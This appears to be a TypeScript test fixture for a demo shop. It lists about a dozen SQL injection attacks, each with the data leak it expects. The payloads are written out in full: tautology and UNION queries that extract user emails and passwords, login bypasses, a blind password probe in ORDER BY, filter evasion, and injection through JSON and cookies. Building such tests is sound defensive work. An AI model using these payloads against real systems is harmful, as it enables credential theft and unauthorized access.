import { leakedEmail } from '../../shop/database.js';
import { type Attack, leaks, q } from '../attack.js';

const users = leaks(leakedEmail);
const hidden = leaks('Unreleased drone');

/** Reads the users table or hidden products through concatenated SQL. */
export const sqlInjection: readonly Attack[] = [
  {
    name: 'tautology in a string',
    request: { path: `/products?category=${q("x' OR '1'='1' OR hidden = '1")}` },
    effect: hidden,
  },
  {
    name: 'union in a string',
    request: { path: `/products?category=${q("x' UNION SELECT id, email, role FROM users -- ")}` },
    effect: users,
  },
  {
    name: 'union in a number',
    request: { path: `/products/${q('0 UNION SELECT id, email, password FROM users')}` },
    effect: users,
  },
  {
    name: 'union with inline comments',
    request: { path: `/products/${q('0/**/UNION/**/ALL/**/SELECT/**/id,email,role/**/FROM/**/users')}` },
    effect: users,
  },
  {
    name: 'union in mixed case',
    request: { path: `/products/${q('0 uNiOn sElEcT id, email, role fRoM users')}` },
    effect: users,
  },
  {
    name: 'password probe in ORDER BY',
    request: {
      path: `/products?sort=${q("(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='c' THEN -price ELSE price END)")}`,
    },
    effect: leaks('[{"id":2,'),
  },
  {
    name: 'log-in by comment',
    request: { path: '/login', form: { name: "admin' -- ", password: 'x' } },
    effect: users,
  },
  {
    name: 'log-in by tautology',
    request: { path: '/login', form: { name: "admin' OR '1'='1", password: "x' OR 'a'='b" } },
    effect: users,
  },
  {
    name: 'log-in by tautology in JSON',
    request: { path: '/login', json: { name: "' OR 1=1 LIMIT 1 -- ", password: '' } },
    effect: users,
  },
  {
    name: 'log-in by union',
    request: {
      path: '/login',
      json: { name: "nobody' UNION SELECT email, password, role FROM users WHERE role='admin' -- ", password: '' },
    },
    effect: users,
  },
  {
    name: 'array element in JSON',
    request: { path: '/compare', json: { ids: [1, '0) UNION SELECT email, password FROM users -- '] } },
    effect: users,
  },
  {
    name: 'cookie',
    request: { path: '/account', headers: { cookie: `user=${q("x' UNION SELECT email, password FROM users -- ")}` } },
    effect: users,
  },
  {
    name: 'schema enumeration',
    request: { path: `/products?category=${q("x' UNION SELECT 1, group_concat(sql), 1 FROM sqlite_master -- ")}` },
    effect: leaks('CREATE TABLE users'),
  },
  {
    name: 'boolean probe for hidden rows',
    request: { path: `/products/${q('7 OR (SELECT length(password) FROM users WHERE id=1) > 5 OR 1=1')}` },
    effect: hidden,
  },
];
